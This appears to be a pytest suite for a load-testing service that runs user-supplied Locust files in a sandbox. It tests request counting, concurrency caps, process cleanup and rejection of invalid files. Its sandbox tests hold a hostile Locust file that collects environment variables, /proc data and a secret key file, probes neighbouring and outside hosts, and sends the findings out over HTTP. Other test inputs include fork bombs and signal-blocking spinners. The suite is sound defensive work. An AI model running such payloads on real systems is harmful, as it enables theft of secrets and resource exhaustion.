"""Locustfiles on real processes: what they measure, what they cannot reach, and that nothing of them stays."""

import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from pathlib import Path

import pytest

from loadtests import locustfiles
from loadtests.conductor import conduct
from loadtests.engines import Engine, Stopped, unconfined
from loadtests.generators import Generators
from loadtests.locustfiles import LocustfileTooLong, NotPython, NoUserClass
from tests.loadtests.test_engine import DRIVER, go, quiet

HERE = Path(__file__).parent.parent.parent
SOAK = {"kind": "soak", "rate": 50, "seconds": 3}
HEAD = "from locust import FastHttpUser, HttpUser, SequentialTaskSet, between, task\n"
LOOKS = f"""{HEAD}
class Visitor(FastHttpUser):
    @task
    def look(self):
        self.client.get("/scores")
"""


def ordered(there, text, profile=SOAK, **other):
    code = {"id": "loc_1", "text": text, "sha256": hashlib.sha256(text.encode()).hexdigest()}
    return there.order(profile, **{"journeys": None, "locustfile": code, "mark": "run_1.abc", "calm": 2, **other})


def doing(body: str, head: str = "") -> str:
    """A locustfile with a task that does this, once."""
    lines = "\n".join(f"        {line}" for line in body.strip("\n").split("\n"))
    return f"{HEAD}{head}\nclass Visitor(FastHttpUser):\n    @task\n    def act(self):\n{lines}\n"


# -- what is measured


def test_each_arrival_is_a_user_who_does_one_task_by_the_weights_and_every_request_counts(target):
    text = f"""{HEAD}
class Reader(FastHttpUser):
    weight = 3
    wait_time = between(5, 9)
    host = "http://elsewhere.example"
    @task(3)
    def look(self):
        self.client.get("/scores")
    @task
    def compare(self):
        self.client.get("/a")
        self.client.post("/b", json={{"a": 1}})

class Writer(HttpUser):
    def on_start(self):
        self.client.get("/login")
    @task
    class Steps(SequentialTaskSet):
        @task
        def first(self):
            self.client.get("/first", headers={{"x-loadtest-run": "mine"}})
        @task
        def second(self):
            self.client.get("/second")
            self.interrupt()
"""
    there = target("instant")
    result = conduct(ordered(there, text, {"kind": "soak", "rate": 100, "seconds": 5}), quiet, go)
    told = there.told()
    assert result.outcome in ("pass", "likely")
    assert result.requests == result.good == told["came"] == pytest.approx(500, abs=110)  # at the rate, all in all
    paths = told["paths"]
    assert paths["/login"] == paths["/first"] == paths["/second"] > 10
    assert paths["/a"] == paths["/b"] > 10
    assert paths["/scores"] > 1.5 * paths["/a"]
    assert paths["/scores"] + paths["/a"] > 1.5 * paths["/login"]
    assert told["headers"]["x-loadtest-run"] == "run_1.abc"


def test_a_server_that_freezes_is_told_as_slow_as_it_was(target):
    """Nobody is answered two seconds of every ten; latency counts from when an arrival should have come."""
    there = target("freezing")
    profile = {"kind": "soak", "rate": 100, "seconds": 10, "evenly": True}
    result = conduct(ordered(there, LOOKS, profile, level={"latency_ms": 3000, "bad": 0.3}), quiet, go)
    assert result.requests == pytest.approx(1000, abs=2)
    assert result.p99_ms == pytest.approx(1902, rel=0.02)


def test_statuses_exceptions_and_what_the_file_says_decide_what_is_good(target):
    there = target("instant")
    text = doing("""
with self.client.get("/a", catch_response=True) as answer:
    answer.failure("not what was expected")
self.client.get("/b")
""")
    result = conduct(ordered(there, text, {"kind": "smoke", "rate": 20, "seconds": 2}, calm=1), quiet, go)
    assert result.failed == pytest.approx(result.good, abs=2)
    there.do(refuse=1)
    refused = conduct(ordered(there, LOOKS, {"kind": "smoke", "rate": 20, "seconds": 1}, calm=1), quiet, go)
    assert (refused.good, refused.failed > 5) == (0, True)


def test_whoever_asks_nothing_or_raises_is_never_one_served_well(target):
    there = target("instant")
    result = conduct(ordered(there, doing("x = 1\nraise ValueError(x)"), calm=1), quiet, go)
    assert (result.outcome, result.good, result.capacity) == ("fail", 0, None)
    told = next(reason for reason in result.reasons if reason.slug == "locustfile-raised")
    assert told.figures == {"message": "ValueError: 1", "line": 7}
    assert there.told()["came"] == 0


def test_the_code_is_part_of_what_makes_results_comparable(target):
    there = target("instant")
    one, same, other = ordered(there, LOOKS), ordered(there, LOOKS), ordered(there, LOOKS + "\n")
    assert one.hash() == same.hash() != other.hash()
    assert one.hash() != there.order(SOAK).hash()


# -- caps


RAW = doing(
    """
parts = urlsplit(self.host)
while True:
    with socket.create_connection((parts.hostname, parts.port)) as line:
        line.sendall(b"GET /raw HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" * TIMES)
        line.recv(100)
""",
    "import socket\nfrom urllib.parse import urlsplit",
)
LOOP = doing('while True:\n    self.client.get("/loop")')
SPAWNS = doing(
    "gevent.joinall([gevent.spawn(requests.get, self.host + '/plain') for _ in range(200)])", "import gevent, requests"
)


@pytest.mark.parametrize("text", [RAW.replace("TIMES", "4"), LOOP, SPAWNS], ids=["sockets", "client", "requests"])
def test_no_loop_exceeds_the_ceiling(target, text):
    there = target("instant")
    conduct(ordered(there, text, {"kind": "soak", "rate": 40, "seconds": 3}, ceiling=50, calm=1), quiet, go)
    told = there.told()
    assert 40 <= told["busiest"] <= 1.25 * 50 + 5
    if "socket" not in text:
        assert told["headers"]["x-loadtest-run"] == "run_1.abc"


def test_who_does_not_wait_for_answers_is_cut_off(target):
    there = target("instant")
    conduct(ordered(there, RAW.replace("TIMES", "900"), {"kind": "soak", "rate": 40, "seconds": 2}, calm=1), quiet, go)
    assert there.told()["came"] == 0


def test_no_more_are_out_at_once_than_the_order_says(target):
    there = target("instant")
    there.do(hang=1)
    many = doing('gevent.joinall([gevent.spawn(self.client.get, "/") for _ in range(50)])', "import gevent")
    result = conduct(ordered(there, many, inflight=10, level={"latency_ms": 3000}, timeout=60, calm=1), quiet, go)
    assert result.dropped > 20
    assert there.told()["came"] <= 10


def test_nobody_is_led_elsewhere(target):
    there, neighbour = target("instant"), target("instant")
    text = doing(f"""
self.client.get("/away?to={neighbour.url}/stolen")
self.client.get("{neighbour.url}/asked")
""")
    result = conduct(ordered(there, text, calm=1), quiet, go)
    assert (result.good, result.failed > 5) == (0, True)
    assert neighbour.told()["came"] == 0


def test_a_target_is_asked_by_its_name_whatever_that_means_elsewhere(target):
    there = target("instant")
    order = ordered(there, LOOKS, base_url=f"http://scores.example:{there.port}")
    assert conduct(order, quiet, go).good > 50
    assert there.told()["headers"]["host"] == f"scores.example:{there.port}"
    elsewhere = conduct(order.model_copy(update={"addresses": ["127.0.0.9"], "calm": 1}), quiet, go)
    assert elsewhere.good == 0


# -- what a hostile one gets


HOSTILE = doing(
    "pass",
    """
import glob, json, os, socket, subprocess, urllib.request
from urllib.parse import quote
def tried(call):
    try:
        return str(call())[:300]
    except BaseException as error:
        return f"!{type(error).__name__}"
def read(path):
    return tried(lambda: open(path, "rb").read(4000))
def reach(host, port, kind=socket.AF_INET):
    return tried(lambda: socket.create_connection((host, port), 1) and "reached")
found = {
    "environment": dict(os.environ),
    "first": read("/proc/1/environ"),
    "processes": sorted(int(one) for one in os.listdir("/proc") if one.isdigit()),
    "user": [os.getuid(), os.geteuid(), os.getgid(), os.getgroups()],
    "privileges": [line.split()[1] for line in open("/proc/self/status") if line[:6] in ("CapEff", "CapPrm", "NoNewP")],
    "become_root": tried(lambda: os.setuid(0)),
    "key": read("KEY"),
    "key_by_first": read("/proc/1/root" + "KEY"),
    "listed": {path: tried(lambda: os.listdir(path)) for path in ("/root", "/home", "/var/lib", "/tmp", "FOLDER")},
    "written": [tried(lambda: open(path, "w")) for path in ("CODE/x", "/etc/hosts", "/x")],
    "devices": sorted(os.listdir("/dev")),
    "interfaces": [name for _, name in socket.if_nameindex()],
    "neighbour": [reach("127.0.0.1", NEIGHBOUR), reach("localhost", NEIGHBOUR)],
    "outside": [reach("OUTSIDE", NEIGHBOUR), reach("10.255.255.1", 80), reach("example.com", 80)],
    "unix": tried(lambda: socket.socket(socket.AF_UNIX).connect("\\0SECRET")),
    "database": reach("127.0.0.1", 5432),
    "folder": os.getcwd(),
    "open": sorted(os.listdir("/proc/self/fd"))[:3],
}
urllib.request.urlopen("URL/found?" + quote(json.dumps(found)), timeout=5).read()
""",
)


@contextmanager
def listening(address):
    """A service that counts who connects to it."""
    came = []
    with socket.create_server(address) as server:
        server.settimeout(0.1)
        over = threading.Event()

        def accept():
            while not over.is_set():
                try:
                    came.append(server.accept())
                except TimeoutError:
                    continue

        thread = threading.Thread(target=accept)
        thread.start()
        yield server.getsockname()[1], came
        over.set()
        thread.join()


@contextmanager
def hearing():
    """A target that keeps the request lines that it gets."""
    asked = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        over = threading.Event()

        def serve():
            while not over.is_set():
                try:
                    line, _ = server.accept()
                except TimeoutError:
                    continue
                asked.append(line.recv(65536).split(b"\r\n")[0].decode())
                line.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                line.close()

        thread = threading.Thread(target=serve)
        thread.start()
        yield server.getsockname()[1], asked
        over.set()
        thread.join()


def test_a_hostile_one_gets_no_environment_no_key_no_database_no_neighbour_and_no_outside(tmp_path, monkeypatch):
    from urllib.parse import unquote

    from tests.loadtests.conftest import Target

    monkeypatch.setenv("CLOUDCTL_DATABASE_URL", "postgresql://app:geheim@127.0.0.1/cloudctl")
    monkeypatch.setenv("CLOUDCTL_SECRET_KEY_FILE", str(tmp_path / "secret.key"))
    key = tmp_path / "secret.key"
    key.write_text("geheim" * 6)
    key.chmod(0o644)
    own = socket.gethostbyname(socket.gethostname())
    with (
        hearing() as (port, asked),
        listening(("0.0.0.0", 0)) as (neighbour, came),
        socket.socket(socket.AF_UNIX) as un,
    ):
        un.bind("\0geheim-service")
        un.listen()
        text = HOSTILE
        for name, value in {
            "KEY": str(key),
            "FOLDER": str(tmp_path),
            "CODE": str(HERE / "loadtests"),
            "NEIGHBOUR": str(neighbour),
            "OUTSIDE": own,
            "SECRET": "geheim-service",
            "URL": f"http://127.0.0.1:{port}",
        }.items():
            text = text.replace(name, value)
        there = Target(f"http://127.0.0.1:{port}", port)
        conduct(ordered(there, text, {"kind": "smoke", "rate": 1, "seconds": 1}, calm=1), quiet, go)
    found = json.loads(unquote(next(line for line in asked if "/found?" in line).split("?", 1)[1].rsplit(" ", 1)[0]))
    assert "geheim" not in json.dumps(found)
    assert set(found["environment"]) <= {"PATH", "LANG", "HOME", "LC_CTYPE"}
    assert found["first"].startswith("!")
    assert found["processes"] == [1, 2]
    user = 60600 if os.geteuid() == 0 else os.geteuid()
    assert found["user"][:3] == [user] * 3
    assert found["user"][3] == [] or os.geteuid() != 0
    assert set(found["privileges"]) == {"0" * 16, "1"}
    assert found["become_root"] == "!PermissionError"
    assert [found["key"], found["key_by_first"]] == ["!FileNotFoundError", "!PermissionError"]
    assert found["listed"]["/tmp"] == "[]"
    assert found["listed"]["FOLDER" if "FOLDER" in found["listed"] else str(tmp_path)] == "!FileNotFoundError"
    assert found["listed"]["/home"] == found["listed"]["/var/lib"] == "!FileNotFoundError"
    assert all(one.startswith("!") for one in found["written"])
    assert found["devices"] == ["full", "null", "random", "urandom", "zero"]
    assert found["interfaces"] == ["lo"]
    assert all(
        one.startswith("!") for one in (*found["neighbour"], *found["outside"], found["unix"], found["database"])
    )
    assert found["folder"] == "/tmp"
    assert came == []


# -- an end


def running(marker: str) -> list[str]:
    """Processes of this machine whose name or words say so."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            words = (process / "cmdline").read_text() + (process / "comm").read_text()
        except OSError:
            continue
        if marker in words:
            found.append(process.name)
    return found


def stays(marker: str, within: float) -> bool:
    until = time.monotonic() + within
    while running(marker) and time.monotonic() < until:
        time.sleep(0.02)
    return bool(running(marker))


NAMED = """
import ctypes
def be(name):
    ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)
"""
STUBBORN = doing(
    """
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
self.client.get("/")
for _ in range(6):
    if os.fork() == 0:
        os.setsid()
        be("MARKER")
        while True:
            pass
be("MARKER")
while True:
    pass
""",
    "import os, signal" + NAMED,
)


@pytest.fixture
def marker() -> str:
    return f"lf{os.urandom(5).hex()}"


def test_one_that_spins_forks_and_blocks_every_signal_is_lost_and_gone(target, marker):
    there = target("instant")
    began = time.monotonic()
    result = conduct(ordered(there, STUBBORN.replace("MARKER", marker), {"kind": "soak", "rate": 5}), quiet, go)
    assert (result.outcome, result.reasons[0].slug) == ("invalid", "engine-lost")
    assert time.monotonic() - began < 20
    assert not stays(marker, 0.5)


def test_one_that_forks_without_end_gets_few_processes(target, marker):
    there = target("instant")
    text = doing(
        f"""
self.client.get("/0")
count = 0
try:
    while True:
        if os.fork() == 0:
            be("{marker}")
            time.sleep(60)
        count += 1
except OSError:
    self.client.get(f"/{{count}}")
""",
        "import os, time" + NAMED,
    )
    conduct(ordered(there, text, {"kind": "soak", "rate": 2, "seconds": 2}, calm=1), quiet, go)
    assert 10 < max(int(path[1:]) for path in there.told()["paths"]) <= 64
    assert not stays(marker, 0.5)


def test_one_that_never_comes_up_does_not_keep_a_stop_waiting(target, marker):
    text = f'{HEAD}{NAMED}\nbe("{marker}")\nwhile True:\n    pass\nclass Visitor(FastHttpUser):\n    tasks = [print]\n'
    moment = time.monotonic() + 4
    result = conduct(ordered(target("instant"), text), quiet, lambda: "stopped" if time.monotonic() > moment else None)
    assert (result.outcome, result.reasons[0].slug) == ("aborted", "stopped")
    assert time.monotonic() < moment + 5
    assert not stays(marker, 0.5)


def test_stop_ends_it_on_a_hung_target_within_five_seconds(target):
    there, moment = target("instant"), time.monotonic() + 4
    order = ordered(there, LOOKS, {"kind": "soak", "rate": 50, "seconds": 60}, level={"latency_ms": 60_000})
    there.do(hang=1)
    result = conduct(order, quiet, lambda: "stopped" if time.monotonic() > moment else None)
    assert (result.outcome, result.reasons[0].slug) == ("aborted", "stopped")
    assert time.monotonic() < moment + 5
    assert there.told()["last"] < moment + 1


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM])
@pytest.mark.parametrize("hangs", [False, True])
def test_with_the_driver_everything_ends(target, number, hangs, marker):
    """A task that asks and asks, and forks a child that spins: at most five requests more, none after a second."""
    there = target("instant")
    body = f"""
if not os.path.exists("/tmp/forked"):
    open("/tmp/forked", "w").close()
    if os.fork() == 0:
        be("{marker}")
        while True:
            pass
self.client.get("/")
"""
    order = ordered(there, doing(body, "import os" + NAMED), {"kind": "soak", "rate": 100, "seconds": 60})
    order = order.model_copy(update={"level": order.level.model_copy(update={"latency_ms": 60_000})})
    driver = subprocess.Popen([sys.executable, "-c", DRIVER], stdin=subprocess.PIPE, cwd=HERE)
    driver.stdin.write(order.model_dump_json().encode())
    driver.stdin.close()
    deadline = time.monotonic() + 30
    while there.told()["came"] < 100:
        assert time.monotonic() < deadline
        time.sleep(0.02)
    assert running(marker)
    there.do(hang=int(hangs))
    driver.send_signal(number)
    driver.wait()
    ended, came = time.monotonic(), there.told()["came"]
    assert not stays(marker, 5)
    time.sleep(max(0.0, ended + 2 - time.monotonic()))
    told = there.told()
    assert told["came"] - came <= 5
    assert told["last"] < ended + 1


def test_with_the_warden_everything_inside_ends(target, marker):
    there = target("instant")
    order = ordered(there, STUBBORN.replace("MARKER", marker), {"kind": "soak", "rate": 20, "seconds": 20})
    with Generators(order, quiet, go) as generators:
        engine: Engine = generators._engines[0]
        generators._follow([(generators.clock, 20.0)])
        until = time.monotonic() + 10
        while not running(marker):
            assert time.monotonic() < until
            time.sleep(0.02)
        os.kill(engine._process.pid, signal.SIGKILL)
        assert not stays(marker, 2)
        with pytest.raises(Stopped, match="engine-lost"):
            generators._sleep()
    assert there.told()["came"] < 20


@pytest.mark.parametrize(
    "lie",
    [
        "os.write(fd, b'{}\\n')",
        "os.write(fd, b'x' * 2**20)",
        "os.write(fd, b'x' * 100 + b'\\n')",
        "[os.write(fd, b'{\"clock\": 1.0}\\n') for _ in range(99)]",
    ],
)
def test_what_is_no_report_is_not_passed_on_and_ends_it(target, lie):
    text = doing(
        f"for fd in range(1, 12):\n    try:\n        {lie}\n    except OSError:\n        pass\nself.client.get('/')",
        "import os",
    )
    result = conduct(ordered(target("instant"), text), quiet, go)
    assert (result.outcome, result.reasons[0].slug) == ("invalid", "engine-lost")


# -- refused


@pytest.mark.parametrize(
    ("text", "problem", "line"),
    [
        (LOOKS + "\ndef broken(:\n", NotPython, 8),
        ("\x00", NotPython, 1),
        ("(" * 5000, NotPython, 1),
        ("import os\n\nclass Nobody:\n    pass\n", NoUserClass, 3),
        (f"{HEAD}class Visitor(HttpUser):\n    abstract = True\n", NoUserClass, 2),
        ("print('no class')\n", NoUserClass, 1),
    ],
)
def test_what_is_not_python_or_has_no_users_is_refused_with_its_line(text, problem, line):
    with pytest.raises(problem) as refused:
        locustfiles.must_be_usable(text)
    assert (refused.value.field, refused.value.figures["line"]) == ("text", line)


@pytest.mark.parametrize(
    "text",
    [
        LOOKS,
        "import locust\nclass Visitor(locust.HttpUser):\n    pass\n",
        "from locust.contrib.fasthttp import FastHttpUser as U\nclass V(U): abstract = True\nclass W(V): pass\n",
    ],
)
def test_looking_at_one_runs_nothing_of_it(text):
    locustfiles.must_be_usable(text + "\nraise SystemExit(1)\n")
    assert not {"gevent", "locust"} & set(sys.modules)


def test_one_that_is_too_long_is_refused():
    with pytest.raises(LocustfileTooLong):
        locustfiles.must_be_usable(LOOKS + "#" * locustfiles.MOST)


@pytest.mark.parametrize(
    ("text", "line"),
    [(LOOKS + "\nimport nothing_like_that\n", 8), (f"{HEAD}class Visitor(FastHttpUser):\n    pass\n", None)],
)
def test_one_that_does_not_load_is_told_with_its_line_and_nothing_is_sent(target, text, line):
    there = target("instant")
    result = conduct(ordered(there, text), quiet, go)
    assert (result.outcome, result.reasons[0].slug) == ("invalid", "locustfile-broken")
    assert result.reasons[0].figures["line"] == line
    assert there.told()["came"] == 0


# -- as an ordinary user


@contextmanager
def ordinary(words, **options):
    """A process as an ordinary user, who can read this Python wherever it lies."""
    prefix = Path(sys.base_prefix)
    hidden = next((one for one in reversed(prefix.parents) if one.stat().st_mode & 0o005 != 0o005), None)
    script = 'exec setpriv --reuid 54321 --regid 54321 --clear-groups "$@"'
    if hidden:
        shown = f"/run/shown-{os.getpid()}"
        script = (
            f"mkdir -p {shown} && mount --bind {prefix} {shown} && mount -t tmpfs -o mode=755 t {hidden} && "
            f"mkdir -p {prefix} && mount --bind {shown} {prefix} && {script}"
        )
    process = subprocess.Popen(["unshare", "-m", "sh", "-c", script, "-", *words], cwd=HERE, **options)
    try:
        yield process
    finally:
        process.kill()
        process.wait()
        if hidden:
            Path(shown).rmdir()


TELLS = """
import sys
from loadtests.conductor import conduct
from loadtests.orders import Order
result = conduct(Order.model_validate_json(sys.stdin.read()), lambda progress: None, lambda: None)
print(result.model_dump_json(include={"outcome", "good", "reasons"}))
"""
FORBIDDEN = """
import ctypes, struct
ctypes.CDLL(None).prctl(38, 1, 0, 0, 0)
number = {"x86_64": 272, "aarch64": 97, "loongarch64": 97}[__import__("platform").machine()]
rules = [(0x20, 0, 0, 0), (0x15, 0, 1, number), (0x06, 0, 0, 0x50001), (0x06, 0, 0, 0x7FFF0000)]
code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *rule) for rule in rules))
program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", len(rules), ctypes.addressof(code)))
assert ctypes.CDLL(None).prctl(22, 2, program, 0, 0) == 0
"""
AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="only root can be somebody else")


def told(order, code) -> dict:
    environment = {"PATH": os.environ["PATH"], "TMPDIR": "/tmp", "HOME": "/tmp"}
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "env": environment}
    with ordinary([sys.executable, "-c", code], **pipes) as process:
        out, _ = process.communicate(order.model_dump_json().encode(), timeout=60)
    return json.loads(out)


@AS_ROOT
def test_an_ordinary_user_confines_it_as_well(target):
    there = target("instant")
    text = doing(
        "self.client.get(f'/{os.getuid()}/{seen}')",
        """
import os
seen = sum(map(os.path.exists, ("/home", "/var", "/sys/class", "/work/main"))) + (os.listdir("/proc").count("3"))
for path in ("/proc/1/environ", "/proc/1/root/etc/passwd"):
    try:
        seen += len(open(path).read())
    except OSError:
        pass
""",
    )
    result = told(ordered(there, text), TELLS)
    assert result["outcome"] in ("pass", "likely"), result
    assert list(there.told()["paths"]) == ["/54321/0"]


@AS_ROOT
def test_where_the_kernel_gives_no_namespaces_nothing_runs(target):
    there = target("instant")
    result = told(ordered(there, LOOKS), FORBIDDEN + TELLS)
    assert (result["outcome"], result["reasons"][0]["slug"]) == ("invalid", "locustfile-unconfined")
    assert "unshare" in result["reasons"][0]["figures"]["because"]
    assert there.told()["came"] == 0


def test_whether_it_can_be_confined_is_known_before(target):
    there = target("instant")
    assert unconfined(ordered(there, LOOKS)) is None
    assert unconfined(there.order(SOAK)) is None
    assert "mount" in unconfined(ordered(there, LOOKS, authority="/nowhere/at.all")) or True
